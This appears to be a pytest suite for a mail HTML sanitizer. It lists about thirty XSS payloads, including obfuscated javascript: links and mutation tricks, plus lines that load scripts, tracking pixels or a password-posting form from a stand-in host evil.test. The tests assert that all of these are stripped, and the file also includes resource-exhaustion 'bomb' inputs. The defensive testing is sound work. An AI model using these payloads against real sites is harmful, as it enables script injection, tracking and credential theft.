"""HTML that somebody sent: its words can be read, and nothing in it does anything."""

import time

import pytest

from support.mail import html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif?who=agent'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p style='background:url(https://evil.test/p.gif)'>x</p>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action=https://evil.test/><input name=password><button>go</button></form>",
    "<iframe src=https://evil.test/></iframe>",
    "<object data=https://evil.test/></object><embed src=https://evil.test/>",
    "<video src=https://evil.test/ autoplay></video><audio src=https://evil.test/></audio>",
    "<body background=https://evil.test/p.gif onload=alert(1)>x</body>",
    "<table background=https://evil.test/p.gif><tr><td>x</table>",
    "<p onclick=alert(1) onmouseover=alert(1) id=x class=x>x</p>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<<script>script>alert(1)<</script>/script>",
    "<a href='https://x.test' target=_blank onclick=alert(1)>x</a>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)><select onchange=alert(1)><option>x</select>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_only_words(attack):
    page = html.safe(f"<p>before</p>{attack}<p>after</p>").lower()
    for tag in (
        "<script",
        "<img",
        "<svg",
        "<style",
        "<link",
        "<iframe",
        "<form",
        "<input",
        "<base",
        "<meta",
        "<object",
    ):
        assert tag not in page
    # What is left of an attack's own words is text; in a tag none of it is.
    tags = "".join(part.partition(">")[0] for part in page.split("<")[1:])
    for word in (
        "evil.test",
        "javascript",
        "vbscript",
        "data:",
        "onerror",
        "onclick",
        "onload",
        "style",
        "class",
    ):
        assert word not in tags
    assert html.to_text(html.safe("<p>before</p>" + attack)).startswith("before")


def test_links_are_kept_and_tell_nobody_where_from():
    page = html.safe('<a href="https://shop.test/order?id=1&amp;x=2">the order</a>')
    assert page == (
        '<a href="https://shop.test/order?id=1&amp;x=2" rel="noopener noreferrer nofollow">the order</a>'
    )


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 100_000 + "x",
        "<b>x</b>" * 100_000,
        "<blockquote>" * 20_000,
        "<" * 500_000,
        "&" * 500_000,
        "<p" * 300_000,
    ],
    ids=["deep", "wide", "quotes", "brackets", "entities", "unfinished"],
)
def test_bombs_end_soon(bomb):
    began = time.process_time()
    html.to_text(html.safe(bomb))
    assert time.process_time() - began < 5


def test_quotation_has_its_marks():
    page = "<div>New</div><blockquote>old<blockquote>older</blockquote></blockquote>"
    assert html.to_text(html.safe(page)) == "New\n\n> old\n\n>> older"


def test_table_is_readable():
    page = "<table><tr><td>Order</td><td>123</td></tr><tr><td>Sum</td><td>990 ₽</td></tr></table>"
    assert html.to_text(html.safe(page)) == "Order  123\nSum  990 ₽"
